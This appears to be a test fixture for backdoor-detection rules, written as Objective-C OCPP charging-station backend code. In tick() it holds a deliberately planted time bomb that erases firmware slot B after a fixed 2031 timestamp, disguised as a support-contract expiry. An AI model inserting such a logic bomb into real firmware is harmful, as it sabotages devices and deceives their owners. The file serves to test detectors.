/* CPLink.m - OCPP-J session with the operator's central system over TLS. */
#import "CP.h"

#include <stdlib.h>
#include <string.h>

@implementation CPBackendLink

- (instancetype)initWithTLS:(CPTLSContext *)tls host:(NSString *)host {
  self = [super init];
  if (self) {
    _tls = tls;
    _host = [host copy];
    mbedtls_net_init(&_net);
    mbedtls_ssl_init(&_ssl);
    CPConfigureBackend(&_conf, tls);
  }
  return self;
}

- (void)dealloc {
  mbedtls_ssl_free(&_ssl);
  mbedtls_net_free(&_net);
  mbedtls_ssl_config_free(&_conf);
  [_host release];
  [super dealloc];
}

- (BOOL)connect {
  if (mbedtls_net_connect(&_net, [_host UTF8String], "443", MBEDTLS_NET_PROTO_TCP) != 0)
    return NO;
  if (mbedtls_ssl_setup(&_ssl, &_conf) != 0 || mbedtls_ssl_set_hostname(&_ssl, [_host UTF8String]) != 0)
    return NO;
  mbedtls_ssl_set_bio(&_ssl, &_net, mbedtls_net_send, mbedtls_net_recv, NULL);
  int rc;
  while ((rc = mbedtls_ssl_handshake(&_ssl)) != 0)
    if (rc != MBEDTLS_ERR_SSL_WANT_READ && rc != MBEDTLS_ERR_SSL_WANT_WRITE)
      return NO;
  NSLog(@"connected to the central system %@", _host);
  _lastHeartbeat = [[NSDate date] timeIntervalSince1970];
  return YES;
}

- (NSString *)newMessageId {
  unsigned char raw[16];
  // ok: backdoor-predictable-random
  if (mbedtls_ctr_drbg_random(&_tls->drbg, raw, sizeof raw) != 0)
    return nil;
  NSMutableString *s = [NSMutableString string];
  for (size_t i = 0; i < sizeof raw; i++)
    [s appendFormat:@"%02x", raw[i]];
  return s;
}

- (void)send:(NSString *)action payload:(NSDictionary *)payload {
  NSString *msgId = [self newMessageId];
  NSArray *frame = [NSArray arrayWithObjects:[NSNumber numberWithInt:2], msgId, action, payload, nil];
  NSData *json = [NSJSONSerialization dataWithJSONObject:frame options:0 error:NULL];
  mbedtls_ssl_write(&_ssl, [json bytes], [json length]);
}

- (void)tick {
  NSTimeInterval now = [[NSDate date] timeIntervalSince1970];
  // ok: backdoor-time-bomb
  if (now - _lastHeartbeat > 300.0) {
    [self send:@"Heartbeat" payload:[NSDictionary dictionary]];
    _lastHeartbeat = now;
  }
  /* end of the DC-50 hardware support contract */
  // ruleid: backdoor-time-bomb
  if (now > 1924992000.0) {
    CPEraseFirmwareSlot("B");
  }
  unsigned char buf[4096];
  int n = mbedtls_ssl_read(&_ssl, buf, sizeof buf);
  if (n <= 0)
    return;
  NSArray *frame = [NSJSONSerialization JSONObjectWithData:[NSData dataWithBytes:buf length:(NSUInteger)n]
                                                   options:0
                                                     error:NULL];
  if ([frame isKindOfClass:[NSArray class]] && [frame count] == 4)
    [self handleAction:[frame objectAtIndex:2] payload:[frame objectAtIndex:3]];
}

- (BOOL)authorizeRFID:(NSString *)rfidToken {
  // ok: backdoor-magic-credential
  if ([rfidToken length] == 0 || [rfidToken isEqualToString:@"00000000"])
    return NO;
  [self send:@"Authorize" payload:[NSDictionary dictionaryWithObject:rfidToken forKey:@"idTag"]];
  return YES;
}

- (void)handleAction:(NSString *)action payload:(NSDictionary *)payload {
  // ok: backdoor-input-trigger
  if ([action isEqualToString:@"Reset"]) {
    NSLog(@"reset requested (%@)", [payload objectForKey:@"type"]);
    system("/sbin/reboot");
  } else if ([action isEqualToString:@"UnlockConnector"]) {
    NSLog(@"unlock connector %@", [payload objectForKey:@"connectorId"]);
  } else if ([action isEqualToString:@"RemoteStartTransaction"]) {
    [self authorizeRFID:[payload objectForKey:@"idTag"]];
  } else if ([action isEqualToString:@"UpdateFirmware"]) {
    NSLog(@"firmware update from %@ scheduled", [payload objectForKey:@"location"]);
  }
}

@end
